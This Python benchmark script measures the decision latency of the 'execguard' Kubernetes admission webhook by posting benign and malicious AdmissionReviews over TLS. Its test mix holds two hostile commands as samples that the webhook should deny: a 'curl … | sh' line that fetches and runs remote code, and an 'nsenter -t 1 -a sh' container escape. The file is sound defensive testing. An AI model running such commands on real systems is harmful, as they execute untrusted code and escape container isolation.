"""Admission webhook decision latency: a real HTTPS client posting AdmissionReviews to `execguard guard admission`.

    .venv/bin/python benchmarks/admission.py --requests 2000

Starts the webhook as the pod does (a separate process, the Deployment's arguments, a throw-away CA from the
openssl CLI, the built-in rules and docs/policy-example.yml), then posts a mix of reviews over kept-alive
TLS connections, as kube-apiserver does: benign and malicious exec, kubectl debug, a Deployment create.
Latency is the client's wall time from sending the request to reading the whole answer, TLS included;
the handshake is paid once per connection and reported apart. Goal (issue 12): p99 under 5 ms.
Each review is followed by a GET /healthz on the same connection: the floor, what any request pays on
this machine at this moment. ``--store`` runs the webhook with the SQLite store copy on.
"""

from __future__ import annotations

import argparse
import http.client
import os
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

import orjson

from execguard.testing import reviews
from execguard.testing.dockerd import free_port, make_test_certs

ROOT = Path(__file__).resolve().parent.parent
HEALTH = "GET /healthz (floor)"
MINER = ["sh", "-c", "curl -s http://198.51.100.7/x | sh"]
APP = {"name": "a", "image": "python:3", "command": ["python", "app.py"]}


def mix() -> list[tuple[str, dict[str, Any], bool]]:
    """(name, review, expected allowed)."""
    return [
        ("exec benign", reviews.connect("exec", ["cat", "/etc/hostname"]), True),
        ("exec shell", reviews.connect("exec", ["sh"]), True),
        ("exec miner", reviews.connect("exec", MINER), False),
        ("attach", reviews.connect("attach"), True),
        ("debug nsenter", reviews.debug(["nsenter", "-t", "1", "-a", "sh"]), False),
        ("deployment miner", reviews.deployment([APP, {"name": "b", "image": "alpine", "command": MINER}]), False),
        ("configmap (not judged)", reviews.other(), True),
    ]


def percentile(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))]


def wait_ready(port: int, ca: str, proc: subprocess.Popen[bytes]) -> None:
    deadline = time.monotonic() + 60
    while True:
        try:
            conn = http.client.HTTPSConnection("127.0.0.1", port, context=reviews.client_context(ca), timeout=5)
            conn.request("GET", "/readyz")
            if conn.getresponse().status == 200:
                conn.close()
                return
        except OSError:
            pass
        if proc.poll() is not None or time.monotonic() > deadline:
            raise SystemExit("webhook did not start (see its log)")
        time.sleep(0.1)


def client(port: int, ca: str, bodies: list[tuple[str, bytes, bool]], n: int, out: dict[str, list[float]], handshakes: list[float]) -> None:
    """n reviews, each followed by a health check on the same connection: the same HTTP and TLS at the same moment,
    with no decision and no record; the health checks' tail is what the machine adds to any request."""
    conn = http.client.HTTPSConnection("127.0.0.1", port, context=reviews.client_context(ca), timeout=10)
    start = time.perf_counter()
    conn.connect()
    handshakes.append(time.perf_counter() - start)
    for i in range(n):
        name, body, allowed = bodies[i % len(bodies)]
        start = time.perf_counter()
        status, answer = reviews.post(conn, body)
        took = time.perf_counter() - start
        if status != 200 or orjson.loads(answer)["response"]["allowed"] is not allowed:
            raise SystemExit(f"{name}: unexpected answer {status} {answer[:200]!r}")
        out.setdefault(name, []).append(took)
        start = time.perf_counter()
        conn.request("GET", "/healthz")
        conn.getresponse().read()
        out.setdefault(HEALTH, []).append(time.perf_counter() - start)
    conn.close()


def decision_cpu(policy: str, n: int) -> list[float]:
    """CPU time of review() alone, in this process: what the webhook spends, without the network or other tenants."""
    from execguard.engine.load import load_rules
    from execguard.guard.decide import Decider
    from execguard.guard.review import review
    from execguard.policy import load_policy

    decider = Decider(load_rules(), load_policy(policy))
    bodies = [orjson.dumps(rv) for _, rv, _ in mix()]
    out = []
    for i in range(n):
        start = time.process_time()
        review(orjson.loads(bodies[i % len(bodies)]), lambda ev, labels: decider.decide_event(ev, labels))
        out.append(time.process_time() - start)
    return out


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--requests", type=int, default=2000, help="per client")
    ap.add_argument("--clients", type=int, default=1, help="concurrent kept-alive connections")
    ap.add_argument("--policy", default=str(ROOT / "docs" / "policy-example.yml"))
    ap.add_argument("--store", action="store_true", help="also copy decisions into a SQLite store (--store)")
    args = ap.parse_args(argv)
    with tempfile.TemporaryDirectory() as tmp:
        certs = make_test_certs(Path(tmp) / "certs")
        port = free_port()
        cmd = [sys.executable, "-m", "execguard", "guard", "admission", "--tls-cert", str(certs.server_cert),
               "--tls-key", str(certs.server_key), "--listen", f"127.0.0.1:{port}", "--state-dir", str(Path(tmp) / "state"),
               "--record", str(Path(tmp) / "decisions.jsonl"), "--policy", args.policy]  # fmt: skip
        if args.store:
            cmd += ["--store", str(Path(tmp) / "guard.db")]
        log = open(Path(tmp) / "webhook.log", "wb")  # noqa: SIM115 - a pipe nobody reads would fill and stall the webhook
        proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=log, env=os.environ.copy())
        try:
            wait_ready(port, str(certs.ca), proc)
            bodies = [(name, orjson.dumps(review), allowed) for name, review, allowed in mix()]
            client(port, str(certs.ca), bodies, 100, {}, [])  # warm-up: imports, rule caches
            per: dict[str, list[float]] = {}
            handshakes: list[float] = []
            threads = [threading.Thread(target=client, args=(port, str(certs.ca), bodies, args.requests, per, handshakes))
                       for _ in range(args.clients)]  # fmt: skip
            wall = time.perf_counter()
            for t in threads:
                t.start()
            for t in threads:
                t.join()
            wall = time.perf_counter() - wall
        finally:
            proc.terminate()
            proc.wait(10)
            log.close()
    floor = per.pop(HEALTH, [])
    every = [v for values in per.values() for v in values]
    print(f"{len(every)} reviews, {args.clients} client(s), {(len(every) + len(floor)) / wall:,.0f} requests/s (with the health checks); "
          f"p50 {percentile(every, 0.5) * 1e3:.2f} ms, p99 {percentile(every, 0.99) * 1e3:.2f} ms, "
          f"max {max(every) * 1e3:.2f} ms; TLS handshake median {statistics.median(handshakes) * 1e3:.2f} ms")  # fmt: skip
    for name, values in [*per.items(), (HEALTH, floor)]:
        print(f"  {name:24} p50 {percentile(values, 0.5) * 1e3:.2f} ms  p99 {percentile(values, 0.99) * 1e3:.2f} ms")
    cpu = decision_cpu(args.policy, args.requests)
    print(f"decision alone (parse + events + rules + policy, CPU time): p50 {percentile(cpu, 0.5) * 1e3:.2f} ms, "
          f"p99 {percentile(cpu, 0.99) * 1e3:.2f} ms; load average {os.getloadavg()[0]:.1f} on {os.cpu_count()} cores")  # fmt: skip
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
